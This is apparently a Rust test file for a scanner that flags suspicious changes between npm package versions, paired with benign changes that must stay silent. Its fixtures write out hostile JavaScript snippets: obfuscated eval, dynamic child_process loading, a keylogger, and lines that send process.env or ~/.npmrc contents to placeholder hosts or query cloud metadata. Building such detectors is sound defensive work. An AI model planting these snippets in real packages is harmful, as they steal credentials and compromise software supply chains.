//! Payloads of other kinds than those the rules were made from, and honest changes that look like
//! some: told or silent, each on one line.

use super::*;

/// In a build, without a trace in its source: a power, or at least something that nobody wrote.
const IN_A_BUILD: &[&str] = &[
    "(0,eval)(Buffer.from(\"MTsx\",\"base64\")+\"\")",
    "!function(){var{eval:q}=globalThis;q(\"1\")}()",
    "eval?.(\"1\")",
    "Reflect.apply(eval,null,[\"1\"])",
    "Reflect.get(globalThis,\"ev\"+\"al\")(\"1\")",
    "import(\"data:text/javascript,1\")",
    "require(\"module\")._load(\"child_\"+\"process\")",
    "process.binding(\"spawn_sync\")",
    "process.mainModule.require(\"fs\")",
    "module.constructor._load(\"fs\")",
    "greet.constructor(\"return this\")()",
    "new(Object.getPrototypeOf(async function(){}).constructor)(\"1\")",
    "(class extends Function{})",
    "[][\"fil\"+\"ter\"][\"const\"+\"ructor\"](\"return 1\")()",
    "\\u{65}val(\"1\")",
    "window[\"setTimeout\"](\"1+1\")",
    "location=\"javascript:1\"",
    "document.write(\"<script src=//e.example></script>\")",
    "document.head.appendChild(Object.assign(document.createElement(\"script\"),{src:\"//e.example/a.js\"}))",
    "(new Image).src=\"//e.example/?\"+JSON.stringify(process.env)",
    "navigator.clipboard.writeText(\"0x\")",
    "addEventListener(\"keydown\",function(e){localStorage.k+=e.key})",
    "Object.defineProperty(window,\"fetch\",{value:function(){}})",
    "window.ethereum=new Proxy(window.ethereum||{},{})",
    "Promise.prototype.then=function(){}",
    "[104,105].map(function(c){return String.fromCharCode(c)}).join(\"\")",
    "for(var s=\"\",i=0;i<8;i++)s+=String.fromCharCode(\"xyz\".charCodeAt(i)^7)",
    "globalThis[Object.keys(globalThis).find(function(k){return 4==k.length})]",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "({}).__proto__.isAdmin=1",
    "require(\"colour-utils\")",
    "require(\"dns\").resolve4(\"a.e.example\",function(){})",
    "\"victim\"===process.env.npm_package_name&&greet({name:\"abc\"},{})",
    "WebAssembly.instantiate(Uint8Array.from(\"AGFzbQEAAAA\".split(\"\")))",
    "new SharedWorker(\"w.js\")",
    "importScripts(\"//e.example/w.js\")",
    "new RTCPeerConnection().createDataChannel(\"x\")",
    "indexedDB.open(\"x\")",
    "history.pushState({},\"\",\"/login\")",
    "greet.name>9&&greet({name:\"\"},{})",
];

#[test]
fn payloads_in_a_build_are_told_at_least_as_a_warning() {
    let silent: Vec<&str> = IN_A_BUILD
        .iter()
        .copied()
        .filter(|payload| !with_payload(payload).iter().any(|flag| warns(*flag)))
        .collect();
    assert!(silent.is_empty(), "{silent:#?}");
}

fn warns(flag: Flag) -> bool {
    crate::config::policy::flags::default_level(flag) >= crate::config::policy::flags::Level::Warn
}

const MAIN: &str = "const fs = require('fs');\nconst https = require('https');\nexports.read = (path) => fs.readFileSync(path, 'utf8');\nexports.send = (body) => https.request('https://api.example/').end(body);\n";
const MANIFEST: &str = r#"{"name":"p","main":"index.js","scripts":{"postinstall":"node scripts/setup.js"},"bin":"bin/p"}"#;
const SETUP: &str = "console.log('thank you');\n";
const BIN: &str = "#!/usr/bin/env node\nrequire('..').read(process.argv[2]);\n";

const PACKAGE: &[(&str, &str)] = &[
    ("package.json", MANIFEST),
    ("index.js", MAIN),
    ("scripts/setup.js", SETUP),
    ("bin/p", BIN),
    ("lib/util.js", "exports.pad = (x) => x.padStart(2);\n"),
];

/// The package with files replaced or added.
fn changed(files_changed: &[(&str, &str)]) -> Files {
    let mut all = files("1.0.1", PACKAGE);
    for (path, text) in files_changed {
        all.by_path.insert((*path).to_owned(), Arc::from(text.as_bytes()));
    }
    all
}

/// Paths and what is written there.
type Edits = Vec<(&'static str, String)>;

/// Changes of a package whose files are its own sources: name, what changes, what must be told.
#[allow(clippy::too_many_lines, reason = "a table")]
fn in_a_package() -> Vec<(&'static str, Edits, Flag)> {
    let appended = |base: &str, payload: &str| format!("{base}{payload}\n");
    let main = |payload: &str| vec![("index.js", appended(MAIN, payload))];
    let file = |path, text: &str| vec![(path, text.to_owned())];
    let manifest = |from: &str, to: &str| ("package.json", MANIFEST.replace(from, to));
    vec![
        ("shell in main", main("require('child_process').exec('true');"), Flag::NewCapability),
        (
            "shell in the bin",
            file("bin/p", &appended(BIN, "require('child_process').exec('true');")),
            Flag::NewCapability,
        ),
        (
            "shell in the install script's file",
            file("scripts/setup.js", "require('child_process').exec('true');\n"),
            Flag::NewCapability,
        ),
        (
            "shell in what the install script's file loads",
            vec![
                ("scripts/setup.js", "require('./more');\n".to_owned()),
                ("scripts/more.js", "require('child_process').exec('true');\n".to_owned()),
            ],
            Flag::NewCapability,
        ),
        (
            "main moved among the tests",
            vec![
                manifest("index.js", "test/run.js"),
                ("test/run.js", "require('vm').runInThisContext('1');\n".to_owned()),
            ],
            Flag::NewCapability,
        ),
        (
            "main is no code by its name",
            vec![manifest("index.js", "logo.png"), ("logo.png", MAIN.to_owned())],
            Flag::OddRequire,
        ),
        (
            "a condition of exports leads to data",
            vec![
                manifest(
                    "\"main\":\"index.js\"",
                    "\"exports\":{\"import\":\"./data.txt\",\"default\":\"./index.js\"}",
                ),
                ("data.txt", "1".to_owned()),
            ],
            Flag::OddRequire,
        ),
        ("a native build without a script", file("binding.gyp", "{'targets':[]}"), Flag::NewScript),
        (
            "a bundled package with a script",
            file("node_modules/x/package.json", r#"{"name":"x","scripts":{"install":"node y"}}"#),
            Flag::NewScript,
        ),
        (
            "a bundled package with a key that only our reader of JSON knows",
            file(
                "node_modules/x/package.json",
                r#"{"$serde_json::private::RawValue":"1","scripts":{"install":"node y"}}"#,
            ),
            Flag::NewScript,
        ),
        ("a bundled package", file("node_modules/x/package.json", r#"{"name":"x"}"#), Flag::NewDep),
        (
            "decrypted and compiled",
            main(
                "const m = new module.constructor(); m._compile(require('crypto').createDecipher('aes256', process.env.npm_package_description).update('00', 'hex', 'utf8'), '');",
            ),
            Flag::NewCapability,
        ),
        (
            "the environment is sent",
            main("exports.send(JSON.stringify(process.env));"),
            Flag::NewCapability,
        ),
        (
            "credentials are read",
            main("exports.send(exports.read(require('os').homedir() + '/.npmrc'));"),
            Flag::NewCapability,
        ),
        (
            "the cloud's own credentials",
            main("https.get('http://169.254.169.254/latest/meta-data/');"),
            Flag::NewCapability,
        ),
        ("another host", main("https.get('https://evil.example/');"), Flag::NewHost),
        (
            "obfuscated",
            main(
                "var _0x1a2b=['a'];function _0x3c4d(_0x5e6f){return _0x1a2b[_0x5e6f];}var _0x7a8b=_0x3c4d(0),_0x9c0d=_0x3c4d(_0x7a8b),_0xdead=_0x9c0d;",
            ),
            Flag::HiddenCode,
        ),
        (
            "behind a wall of blanks",
            vec![(
                "lib/util.js",
                format!("exports.pad = (x) => x.padStart(2);{};exports.x = 1;\n", " ".repeat(600)),
            )],
            Flag::HiddenCode,
        ),
        (
            "text in reverse",
            main("/* admins only \u{202e} } \u{2066}if (admin)\u{2069} */ exports.read('x');"),
            Flag::HiddenCode,
        ),
        (
            "a name in two scripts",
            main("const p\u{0430}th = 'x'; exports.read(p\u{0430}th);"),
            Flag::HiddenCode,
        ),
        (
            "a readable file is minified",
            vec![("lib/util.js", "exports.pad=function(n){return n};".repeat(40))],
            Flag::OpaqueFile,
        ),
        ("byte code", file("lib/core.wasm", "x"), Flag::OpaqueFile),
        ("eval of a text", main("eval(exports.read('x'));"), Flag::NewCapability),
        (
            "a worker of a text",
            main("new (require('worker_threads').Worker)('1', { eval: true });"),
            Flag::NewCapability,
        ),
        ("tests are loaded", main("require('./test/data');"), Flag::OddRequire),
        ("an image is loaded", main("require('./logo.svg');"), Flag::OddRequire),
        ("a socket", main("require('net').connect(443, 'e.example');"), Flag::NewCapability),
        (
            "a module by a name that is put together",
            main("module.require(['chi', 'ld_pro', 'cess'].join('')).execSync('true');"),
            Flag::NewCapability,
        ),
    ]
}

#[test]
fn payloads_in_a_package_of_sources_are_told() {
    let old = files("1.0.0", PACKAGE);
    let mut missed = Vec::new();
    for (name, changes, expected) in in_a_package() {
        let changes: Vec<(&str, &str)> =
            changes.iter().map(|(path, text)| (*path, text.as_str())).collect();
        let found = flags(&changed(&changes), &old);
        if !found.contains(&expected) {
            missed.push((name, found));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// A larger source and its build, as an honest tool chain makes it.
const LIBRARY: &str = "(function (root, factory) {\n  if (typeof define === 'function' && define.amd) define([], factory);\n  else root.lib = factory();\n}(this, function () {\n  var cache = {};\n  function format(value, options) {\n    var unit = options && options.unit ? options.unit : 'px';\n    if (/^-?[0-9]+$/.test(value)) return value + unit;\n    return 'Hello \u{e9} ' + String(value).trim();\n  }\n  function lookup(key) {\n    if (!cache.hasOwnProperty(key)) cache[key] = format(key, { unit: 'em' });\n    return cache[key];\n  }\n  return { format: format, lookup: lookup, version: '1.0.0' };\n}));\n";
const LIBRARY_BUILD: &str = "/*! lib 1.0.0 | MIT */!function(e,t){\"function\"==typeof define&&define.amd?define([],t):e.lib=t()}(this,function(){var e={};function t(e,t){var n=t&&t.unit?t.unit:\"px\";return/^-?[0-9]+$/.test(e)?e+n:\"Hello \u{e9} \"+String(e).trim()}return{format:t,lookup:function(n){return e.hasOwnProperty(n)||(e[n]=t(n,{unit:\"em\"})),e[n]},version:\"1.0.0\"}});";

/// Honest changes of build, or of source and build: name, source, build.
#[allow(clippy::too_many_lines, reason = "a table")]
fn honest() -> Vec<(&'static str, String, String)> {
    let build = |from: &str, to: &str| (LIBRARY.to_owned(), LIBRARY_BUILD.replace(from, to));
    let both = |from: &str, to: &str, min_from: &str, min_to: &str| {
        (LIBRARY.replace(from, to), LIBRARY_BUILD.replace(min_from, min_to))
    };
    let named = |name, (source, build): (String, String)| (name, source, build);
    vec![
        named(
            "another banner",
            build(
                "/*! lib 1.0.0 | MIT */",
                "/*! lib v1.0.1 (c) 2026 The authors, https://lib.example/license */",
            ),
        ),
        named(
            "a licence comment",
            build("/*!", "/** @license MIT, see https://lib.example/LICENSE.txt */\n/*!"),
        ),
        named("no banner", build("/*! lib 1.0.0 | MIT */", "")),
        named("a source map's comment", build("});", "});\n//# sourceMappingURL=lib.min.js.map")),
        named("the version", both("1.0.0", "1.0.1", "version:\"1.0.0\"", "version:\"1.0.1\"")),
        named("charset escapes", build("\u{e9}", "\\xe9")),
        named("other charset escapes", build("\u{e9}", "\\u00e9")),
        named(
            "other local names",
            build(
                "function t(e,t){var n=t&&t.unit?t.unit:\"px\";return/^-?[0-9]+$/.test(e)?e+n:\"Hello \u{e9} \"+String(e).trim()}",
                "function t(r,o){var i=o&&o.unit?o.unit:\"px\";return/^-?[0-9]+$/.test(r)?r+i:\"Hello \u{e9} \"+String(r).trim()}",
            ),
        ),
        named("quotes", build("\"px\"", "'px'")),
        named("strict mode", build("function(){var e={}", "function(){\"use strict\";var e={}")),
        named("a line break every so often", build(";function", ";\nfunction")),
        named("a new option", both("'em' }", "'em', round: true }", "\"em\"}", "\"em\",round:!0}")),
        named(
            "a polyfill in both",
            both(
                "  var cache",
                "  if (!String.prototype.trim) String.prototype.trim = function () { return this.replace(/^\\s+|\\s+$/g, ''); };\n  var cache",
                "var e={}",
                "String.prototype.trim||(String.prototype.trim=function(){return this.replace(/^\\s+|\\s+$/g,\"\")});var e={}",
            ),
        ),
        named(
            "a sender in both",
            both(
                "  var cache",
                "  function report(x) { return fetch('https://lib.example/r', { body: x }); }\n  report(1);\n  var cache",
                "var e={}",
                "fetch(\"https://lib.example/r\",{body:1});var e={}",
            ),
        ),
        named("a regular expression with other escapes", build("/^-?[0-9]+$/", "/^\\-?[0-9]+$/")),
        named("text taken out", both("'Hello \u{e9} ' + ", "", "\"Hello \u{e9} \"+", "")),
    ]
}

#[test]
fn honest_changes_of_a_build_are_silent() {
    let old = pair(LIBRARY, LIBRARY_BUILD);
    let mut loud = Vec::new();
    for (name, source, build) in honest() {
        let found: Vec<Flag> =
            flags(&pair(&source, &build), &old).into_iter().filter(|flag| warns(*flag)).collect();
        // What is new in both is a new power of the package, and said once, as such.
        let is_new_power = name == "a sender in both";
        if found
            .iter()
            .any(|flag| !(is_new_power && matches!(flag, Flag::NewCapability | Flag::NewHost)))
        {
            loud.push((name, found));
        }
    }
    assert!(loud.is_empty(), "{loud:#?}");
}

/// Honest changes of a package of sources: name, what changes.
fn honest_packages() -> Vec<(&'static str, Edits)> {
    vec![
        ("a refactoring", vec![("lib/util.js", "exports.pad = (x, n = 2) => String(x).padStart(n);\n".to_owned())]),
        ("a new helper", vec![("lib/more.js", "const fs = require('fs');\nexports.exists = (p) => fs.existsSync(p);\n".to_owned())]),
        ("another greeting", vec![("scripts/setup.js", "console.log('thank you all');\n".to_owned())]),
        ("a chunk of a bundler, renamed", vec![("dist/chunk-4F2A9C.js", "exports.pad = (x) => x.padStart(2);\n".to_owned())]),
        ("tests that start processes", vec![("test/cli.js", "require('child_process').execSync('true');\n".to_owned())]),
        ("a variable of the environment", vec![("lib/util.js", "exports.pad = (x) => process.env.NO_PAD ? x : x.padStart(2);\n".to_owned())]),
        ("an emoji and accents", vec![("lib/util.js", "exports.pad = (x) => x.padStart(2) + '\u{2764}\u{fe0f} d\u{e9}j\u{e0} vu \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}';\n".to_owned())]),
        ("documentation", vec![("README.md", "see `.npmrc` and https://docs.example/".to_owned())]),
    ]
}

#[test]
fn honest_changes_of_a_package_are_silent() {
    let old = files("1.0.0", PACKAGE);
    for (name, changes) in honest_packages() {
        let changes: Vec<(&str, &str)> =
            changes.iter().map(|(path, text)| (*path, text.as_str())).collect();
        assert_eq!(flags(&changed(&changes), &old), [], "{name}");
    }
}
